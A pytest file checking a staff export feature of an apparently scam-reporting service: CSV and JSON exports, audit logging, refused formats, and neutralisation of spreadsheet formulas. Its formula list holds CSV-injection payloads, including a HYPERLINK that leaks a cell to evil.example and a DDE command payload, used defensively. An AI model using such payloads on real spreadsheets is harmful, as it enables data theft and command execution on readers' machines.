"""Exports: every value as it is in JSON, and nothing that a spreadsheet runs in CSV."""

import csv
import io
import json
from typing import Any

import pytest

from actions.reports.model import Loss
from bot.staff.cases.export import COLUMNS
from tests.bot.staff.conftest import Staff, filing

FORMULAS = [
    "=1+1",
    "+1",
    "\tx",
    "\rx",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    " =1+1",
    "＝1+1",
    "=HYPERLINK(\"https://evil.example/?\"&A1)",
    "x;=1+1",
    "x\n=1+1",
    "x\t=1+1",
    'x";=1+1',
    "x,=1+1",
    "x;\"=1+1",
    "x; ＝1+1",
    "=cmd|' /C calc'!A0",
]  # fmt: skip


async def export(staff: Staff, format_: str, **filters: str) -> Any:
    session = staff.log_in(name="an")
    return await staff.post("/staff/export", session, format=format_, **filters)


async def test_csv_and_json_have_every_report(staff: Staff) -> None:
    staff.office.store.file(filing(loss=Loss.MONEY, what_happened="één €"))
    staff.office.store.file(filing("other.be", contact="an@example.be"))
    response = await export(staff, "csv")
    assert response.content_type == "text/csv"
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="meldingen-2026-11-25.csv"'
    )
    assert response.headers["Cache-Control"] == "no-store"
    text = (await response.read()).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert tuple(rows[0]) == COLUMNS
    assert [row["address"] for row in rows] == ["vdab-jobs[.]be/", "other[.]be/"]
    assert (rows[0]["loss"], rows[0]["what_happened"]) == ("money", "één €")
    as_json = json.loads(await (await export(staff, "json")).read())
    assert [{name: str(value) for name, value in row.items()} for row in as_json] == rows
    assert "an@example.be" not in text + json.dumps(as_json)


async def test_only_what_the_queue_showed_is_exported(staff: Staff) -> None:
    staff.office.store.file(filing())
    staff.office.store.file(filing("other.be"))
    rows = json.loads(await (await export(staff, "json", q="other")).read())
    assert [row["pasted"] for row in rows] == ["https://other.be/"]
    assert json.loads(await (await export(staff, "json", q="nothing")).read()) == []


async def test_every_export_is_in_the_audit_log(staff: Staff) -> None:
    staff.office.store.file(filing())
    await export(staff, "csv", q="vdab", status="all")
    event = staff.office.store.events(limit=1)[0]
    assert (event.actor, event.what) == ("an", "exported")
    assert dict(event.details) == {"format": "csv", "rows": "1", "filters": "status=all q=vdab"}


@pytest.mark.parametrize(("format_", "filters"), [("xml", {}), ("", {}), ("csv", {"status": "x"})])
async def test_what_cannot_be_exported_is_refused(
    staff: Staff, format_: str, filters: dict[str, str]
) -> None:
    response = await export(staff, format_, **filters)
    assert response.status == 400
    assert [event.what for event in staff.office.store.events()] == []


@pytest.mark.parametrize("formula", FORMULAS)
async def test_no_cell_begins_as_a_formula_does(staff: Staff, formula: str) -> None:
    staff.office.store.file(
        filing(address="x", what_happened=formula, seen_on=formula, language=formula[:8])
    )
    staff.office.store.file(filing(formula))
    text = (await (await export(staff, "csv", status="all")).read()).decode("utf-8-sig")
    for cut in (",", ";", "\t"):
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=cut):
            for cell in line:
                assert not cell.lstrip(' "\t\r\n').startswith(("=", "＝")), (cut, cell)
    for row in csv.reader(io.StringIO(text, newline="")):
        assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    as_json = json.loads(await (await export(staff, "json", status="all")).read())
    assert formula in [row["what_happened"] for row in as_json]


@pytest.mark.parametrize("format_", ["stix", "misp", "hosts", "rpz"])
async def test_confirmed_fakes_are_shared_with_a_line_in_the_log(
    staff: Staff, format_: str
) -> None:
    session = staff.log_in(name="an")
    response = await staff.post("/staff/share", session, format=format_)
    assert response.status == 200
    assert response.headers["Content-Disposition"].startswith("attachment;")
    (line,) = staff.office.store.events(what="shared")
    assert (line.actor, line.details["format"]) == ("an", format_)


async def test_what_cannot_be_shared_leaves_no_line(staff: Staff) -> None:
    session = staff.log_in()
    assert (await staff.post("/staff/share", session, format="xarf")).status == 409
    assert (await staff.post("/staff/share", session, format="x")).status == 400
    assert staff.office.store.events(what="shared") == ()
